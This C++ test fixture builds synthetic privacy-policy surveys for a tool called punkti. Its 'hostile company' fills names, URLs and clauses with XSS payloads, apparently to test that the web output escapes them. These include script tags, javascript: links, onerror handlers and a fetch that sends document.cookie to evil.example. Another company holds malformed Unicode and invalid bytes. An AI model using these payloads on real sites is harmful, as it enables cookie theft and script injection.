// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/web/survey_fixture.hpp"

#include <algorithm>
#include <utility>

namespace punkti::tests {
namespace {

void add_once(std::vector<std::string>& list, const std::string& value) {
  if (std::find(list.begin(), list.end(), value) == list.end()) list.push_back(value);
}

/// The touched topics of clauses wait here, under their index, until the cells are made.
constexpr const char* touch_mark = "touches:";

void add_plain_company(SurveyBuilder& survey) {
  survey.company("mtis-puri", "Mtis Puri", "მთის პური");
  survey.last_company().website = "https://mtis-puri.example/";
  survey.document("კონფიდენციალურობის პოლიტიკა", "ka");
  survey.last_document().date = "2025-04-01";
  survey.last_document().url = "https://mtis-puri.example/privacy?lang=ka&print=1";
  survey.last_document().type = "privacy policy";
  survey.heading("კონფიდენციალურობის პოლიტიკა", 1)
      .heading("1. რამდენ ხანს ვინახავთ მონაცემებს", 2)
      .clause("1.1. შეკვეთის მონაცემებს ვინახავთ სამი წლის განმავლობაში, ანგარიშფაქტურებს კი კანონით დადგენილი ვადით.",
              "ka", {"retention"}, {"payment-data"});
  survey.last_clause().number = "1.1";
  survey.heading("2. ქუქი-ფაილები", 2)
      .clause("ვებგვერდი იყენებს მხოლოდ აუცილებელ ქუქი-ფაილებს (cookies).", "ka", {"cookies"});
  survey.last_clause().lead_in = "ვებგვერდის მუშაობისთვის:";
  survey.document("Privacy policy", "en");
  survey.heading("Privacy policy", 1)
      .heading("1. Retention", 2)
      .clause("Order data are kept for three years.", "en", {"retention"})
      .heading("4. A level too deep", 5)
      .clause("We use necessary cookies only.", "en", {"cookies"});
  survey.last_clause().number = "iv";
}

void add_hostile_company(SurveyBuilder& survey) {
  survey.company("evil", "<script>alert('company')</script>", "\"><img src=x onerror=alert(1)>");
  survey.last_company().website = "javascript:alert(document.domain)";
  survey.document("</title><script>alert('title')</script>", "en");
  survey.last_document().url = "JaVaScRiPt:alert(1)//https://example.org";
  survey.last_document().source = "Evil/<b onmouseover=alert(1)>\" onfocus=\"alert(2)\xE2\x80\xAEtxt.html";
  survey.last_document().licence = "<iframe src=//evil.example></iframe>";
  survey.last_document().oddities = {"<style>body{display:none}</style> stands in it"};
  survey.heading("<svg/onload=alert('heading')>", 2)
      .clause("<script>fetch('https://evil.example/?' + document.cookie)</script><img src=x onerror=alert(1)>", "en",
              {"retention", "cookies"});
  survey.last_clause().number = "<i>1</i>";
  survey.last_clause().lead_in = "--></style><base href='//evil.example'>";
  survey.clause("{{text}} {{main}} <!-- part: frame --> ]]> &amp; &#x3c;script&#x3e;", "en", {"retention"});
  survey.clause(
      "<meta http-equiv=refresh content='0;url=https://evil.example'><form action=//evil.example><input></form>", "en");
  survey.last_clause().id = "\"><script>alert('id')</script>";
  survey.last_clause().section = {"<a href='javascript:alert(1)'>section</a>"};
}

void add_odd_company(SurveyBuilder& survey) {
  survey.company("odd-texts", "Odd Texts");
  survey.document("wesebi", "ka");
  survey.last_document().oddities = {"22 bytes are in a legacy Georgian font encoding"};
  survey.clause(
      "\xE2\x80\xAEsdrawkcab si siht\xE2\x80\xAC and pay\xE2\x80\x8Bment \xE2\x80\x8B\xE2\x80\x8B\xE2\x80\x8B end",
      "en", {"retention"});
  survey.clause("monacemTa Senaxvis vada", "ka", {"retention"});
  survey.last_clause().form = "legacy";
  survey.last_clause().decoded = "მონაცემთა შენახვის ვადა";
  std::string endless;
  for (int i = 0; i < 400; ++i) endless += "შესანახი";
  survey.clause(endless, "ka", {"retention"});
  std::string accents = "e";
  for (int i = 0; i < 3000; ++i) accents += i % 2 == 0 ? "\xCC\x80" : "\xD6\xAE";
  survey.clause(accents, "other", {}, {"payment-data"});
  survey.clause("A broken byte \xFF and an overlong one \xC0\xAF here.", "other", {"retention"});
  survey.clause("مدة حفظ البيانات ثلاث سنوات.", "other", {"retention"}, {"cookies"});
  survey.clause(std::string("Nul \0 inside, bell \a too.", 26), "en", {}, {"cookies"});
}

}  // namespace

SurveyBuilder& SurveyBuilder::topic(std::string id, std::string label_en, std::string label_ka, std::string group) {
  survey_.topics.push_back({std::move(id), std::move(label_en), std::move(label_ka), std::move(group),
                            "What counts as this topic.", "What has its words and does not count.",
                            "a law that is invented"});
  return *this;
}

SurveyBuilder& SurveyBuilder::company(std::string id, std::string name, std::string name_ka) {
  survey_.companies.push_back({std::move(id), std::move(name), std::move(name_ka), "", {}, {}});
  return *this;
}

SurveyBuilder& SurveyBuilder::document(std::string title, std::string lang) {
  query::SurveyCompany& company = survey_.companies.back();
  query::SurveyDocument document;
  document.company = company.id;
  document.id = "document-" + std::to_string(company.documents.size() + 1);
  document.source = company.id + "/" + document.id + ".txt";
  document.title = std::move(title);
  document.lang = std::move(lang);
  document.sha256 = std::string(64, static_cast<char>('a' + survey_.documents.size() % 6));
  document.encoding = "UTF-8";
  byte_ = 0;
  company.documents.push_back(survey_.documents.size());
  survey_.documents.push_back(std::move(document));
  return *this;
}

ByteRange SurveyBuilder::place_for(const std::string& text) {
  const ByteRange place{byte_, byte_ + static_cast<std::uint32_t>(text.size())};
  byte_ = place.end + 2;
  survey_.documents.back().place = {0, place.end};
  return place;
}

SurveyBuilder& SurveyBuilder::heading(std::string text, int level) {
  const ByteRange place = place_for(text);
  survey_.documents.back().headings.push_back({place, std::move(text), level});
  return *this;
}

SurveyBuilder& SurveyBuilder::clause(std::string text, std::string lang, std::vector<std::string> about,
                                     std::vector<std::string> touches) {
  query::SurveyClause clause;
  clause.id = "k" + std::to_string(survey_.clauses.size()) + "a";
  clause.document = survey_.documents.size() - 1;
  clause.place = place_for(text);
  clause.form = lang == "ka" ? "mkhedruli" : "latin";
  clause.text = std::move(text);
  clause.lang = std::move(lang);
  const auto& headings = survey_.documents.back().headings;
  if (!headings.empty()) clause.section = {headings.back().text};
  clause.topics = std::move(about);
  for (const std::string& id : touches) clause.topics.push_back(touch_mark + id);
  survey_.documents.back().clauses.push_back(survey_.clauses.size());
  survey_.clauses.push_back(std::move(clause));
  return *this;
}

SurveyBuilder& SurveyBuilder::fact(facts::Kind kind, std::string value, const std::string& words) {
  query::SurveyClause& clause = survey_.clauses.back();
  const auto begin = static_cast<std::uint32_t>(clause.text.find(words));
  const ByteRange place{begin, begin + static_cast<std::uint32_t>(words.size())};
  query::SurveyFact fact;
  fact.fact = {kind, std::move(value), place};
  fact.place = {clause.place.begin + place.begin, clause.place.begin + place.end};
  for (const std::string& topic : clause.topics)
    if (!topic.starts_with(touch_mark)) fact.topics.push_back(topic);
  clause.facts.push_back(std::move(fact));
  return *this;
}

void SurveyBuilder::tell_by_language() {
  for (auto& [who, cell] : survey_.cells) {
    const auto is_topic_language = [](const std::string& lang) {
      return std::ranges::find(query::topic_languages, lang) != query::topic_languages.end();
    };
    for (const query::SurveyDocument& document : survey_.documents)
      if (document.company == who.first && is_topic_language(document.lang))
        cell.by_lang.emplace(document.lang, query::Degree::silent);
    const auto raise = [&](std::size_t clause, query::Degree degree) {
      auto at = cell.by_lang.find(survey_.clauses[clause].lang);
      if (at == cell.by_lang.end()) at = cell.by_lang.find(survey_.documents[survey_.clauses[clause].document].lang);
      if (at != cell.by_lang.end()) at->second = std::max(at->second, degree);
    };
    for (const std::size_t clause : cell.in_passing) raise(clause, query::Degree::in_passing);
    for (const std::size_t clause : cell.passages) raise(clause, query::Degree::addressed);
  }
}

query::Survey SurveyBuilder::build() {
  const std::size_t mark = std::string(touch_mark).size();
  for (const auto& company : survey_.companies)
    for (const auto& topic : survey_.topics) survey_.cells[{company.id, topic.id}];
  for (std::size_t index = 0; index < survey_.clauses.size(); ++index) {
    query::SurveyClause& clause = survey_.clauses[index];
    const std::string& company = survey_.documents[clause.document].company;
    for (const std::string& id : clause.topics) {
      if (id.rfind(touch_mark, 0) == 0) {
        survey_.cells[{company, id.substr(mark)}].in_passing.push_back(index);
        continue;
      }
      query::SurveyCell& cell = survey_.cells[{company, id}];
      cell.addressed = true;
      cell.passages.push_back(index);
      add_once(cell.languages, clause.lang);
    }
    std::erase_if(clause.topics, [](const std::string& id) { return id.rfind(touch_mark, 0) == 0; });
  }
  tell_by_language();
  survey_.program_version = "punkti 0.0.0";
  survey_.index_versions = "index format 0";
  return survey_;
}

query::Survey five_companies() {
  SurveyBuilder survey;
  survey.topic("retention", "Retention", "შენახვის ვადები", "privacy")
      .topic("cookies", "Cookies", "ქუქი-ფაილები", "privacy")
      .topic("payment-data", "Payment data", "გადახდის მონაცემები", "privacy")
      .topic("delivery", "Delivery", "მიწოდება", "shop");
  add_plain_company(survey);
  add_hostile_company(survey);
  add_odd_company(survey);
  survey.company("blank", "Blank & Sons").document("", "other");
  survey.company("absent", "Absent");
  return survey.build();
}

query::Survey many_companies(std::size_t companies, std::size_t topics) {
  SurveyBuilder survey;
  for (std::size_t t = 0; t < topics; ++t)
    survey.topic("topic-" + std::to_string(t), "Topic " + std::to_string(t), "თემა " + std::to_string(t),
                 t < topics / 2 ? "privacy" : "shop");
  for (std::size_t c = 0; c < companies; ++c) {
    survey.company("company-" + std::to_string(c), "Company " + std::to_string(c)).document("Terms", "en");
    for (std::size_t t = c % 2; t < topics; t += 2)
      survey.clause("Clause of company " + std::to_string(c) + ".", "en", {"topic-" + std::to_string(t)});
  }
  return survey.build();
}

}  // namespace punkti::tests
